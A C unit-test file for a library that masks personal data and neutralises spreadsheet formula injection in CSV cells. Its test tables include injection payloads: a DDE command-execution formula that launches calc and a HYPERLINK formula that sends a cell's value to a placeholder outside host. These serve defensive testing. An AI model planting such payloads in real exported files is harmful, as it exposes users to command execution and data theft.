/* Check suite for cx_mask: PII masks and the CSV formula-injection guard
 * (payload table from engineering.md 3.1). */
#include <check.h>
#include <stdlib.h>
#include <string.h>

#include "cx_mask.h"

struct mcase {
	enum cx_mask_kind kind;
	const char *in;
	const char *want;
};

static const struct mcase mcases[] = {
	{ CX_MASK_ID, "1234567890", "******7890" },
	{ CX_MASK_ID, "79123456", "******3456" },
	{ CX_MASK_ID, "9001234567", "******4567" },
	{ CX_MASK_ID, "1234", "****" },
	{ CX_MASK_ID, "", "" },
	{ CX_MASK_PHONE, "+573001234567", "******4567" },
	{ CX_MASK_PHONE, "+1 (212) 555-0199", "******0199" },
	{ CX_MASK_PHONE, "123", "****" },
	{ CX_MASK_EMAIL, "ana.gomez@dominio.com", "a***@dominio.com" },
	{ CX_MASK_EMAIL, "\xc3\xa1lvaro@correo.co", "\xc3\xa1***@correo.co" },
	{ CX_MASK_EMAIL, "@x.org", "***@x.org" },
	{ CX_MASK_EMAIL, "not-an-email", "***" },
	{ CX_MASK_NAME, "Juan P\xc3\xa9rez", "J. P." },
	{ CX_MASK_NAME, "maria  del carmen", "M. D. C." },
	{ CX_MASK_NAME, "\xc3\x81ngela Ruiz-Soto", "\xc3\x81. R. S." },
	{ CX_MASK_NAME, "", "" },
	{ CX_MASK_NAME, "Beto \"B\" O'Neil", "B. B. O. N." },
	{ CX_MASK_NAME, "=cmd|' /C calc'!A0", "C. C. C. A." },
	{ CX_MASK_NONE, "plain", "plain" },
};

START_TEST(test_mask_table)
{
	const struct mcase *c = &mcases[_i];
	char buf[64];
	size_t n = cx_mask(c->kind, buf, sizeof buf, c->in, strlen(c->in));
	ck_assert_str_eq(buf, c->want);
	ck_assert_uint_eq(n, strlen(c->want));
}
END_TEST

START_TEST(test_mask_truncation)
{
	char buf[5];
	size_t n = cx_mask_id(buf, sizeof buf, "1234567890", 10);
	ck_assert_uint_eq(n, 10);
	ck_assert_str_eq(buf, "****");
	n = cx_mask_email(buf, 0, "a@b", 3);
	ck_assert_uint_eq(n, 6);
}
END_TEST

START_TEST(test_mask_kind_of)
{
	ck_assert_int_eq(cx_mask_kind_of("national_id"), CX_MASK_ID);
	ck_assert_int_eq(cx_mask_kind_of("phone"), CX_MASK_PHONE);
	ck_assert_int_eq(cx_mask_kind_of("email"), CX_MASK_EMAIL);
	ck_assert_int_eq(cx_mask_kind_of("name"), CX_MASK_NAME);
	ck_assert_int_eq(cx_mask_kind_of("balance"), CX_MASK_NONE);
}
END_TEST

struct ncase {
	const char *in;
	size_t n;        /* 0 = strlen */
	const char *want;
	size_t wantn;    /* 0 = strlen */
};

/* engineering.md 3.1 payloads, plus cells that must stay untouched */
static const struct ncase ncases[] = {
	{ "=1+1", 0, "'=1+1", 0 },
	{ "+573001234567", 0, "'+573001234567", 0 },
	{ "-2+3", 0, "'-2+3", 0 },
	{ "@SUM(A1)", 0, "'@SUM(A1)", 0 },
	{ "\t=1", 0, "'\t=1", 0 },
	{ "\r=1", 0, "'\r=1", 0 },
	{ "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", 0,
	  "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", 0 },
	{ "=cmd|' /C calc'!A0", 0, "'=cmd|' /C calc'!A0", 0 },
	{ "\0=1", 3, "'\0=1", 4 },
	/* fullwidth equals sign U+FF1D: text for spreadsheets, left alone */
	{ "\xef\xbc\x9d" "1+1", 0, "\xef\xbc\x9d" "1+1", 0 },
	{ "ventas", 0, "ventas", 0 },
	{ "1-30", 0, "1-30", 0 },
	{ " =1", 0, " =1", 0 },
	{ "'=1", 0, "'=1", 0 },
	{ "", 0, "", 0 },
};

START_TEST(test_neutralise_table)
{
	const struct ncase *c = &ncases[_i];
	size_t n = c->n ? c->n : strlen(c->in);
	size_t wn = c->wantn ? c->wantn : strlen(c->want);
	char buf[128], buf2[128];
	size_t got = cx_cell_neutralise(buf, sizeof buf, c->in, n);
	ck_assert_uint_eq(got, wn);
	ck_assert_mem_eq(buf, c->want, wn);
	/* idempotent */
	size_t got2 = cx_cell_neutralise(buf2, sizeof buf2, buf, got);
	ck_assert_uint_eq(got2, got);
	ck_assert_mem_eq(buf2, buf, got);
	/* the output is never dangerous */
	ck_assert_int_eq(cx_cell_dangerous(buf, got), 0);
}
END_TEST

static Suite *mask_suite(void)
{
	Suite *s = suite_create("mask");
	TCase *tc = tcase_create("core");
	tcase_add_loop_test(tc, test_mask_table, 0, (int)(sizeof mcases / sizeof mcases[0]));
	tcase_add_test(tc, test_mask_truncation);
	tcase_add_test(tc, test_mask_kind_of);
	tcase_add_loop_test(tc, test_neutralise_table, 0, (int)(sizeof ncases / sizeof ncases[0]));
	suite_add_tcase(s, tc);
	return s;
}

int main(void)
{
	SRunner *sr = srunner_create(mask_suite());
	srunner_run_all(sr, CK_NORMAL);
	int nf = srunner_ntests_failed(sr);
	srunner_free(sr);
	return nf == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
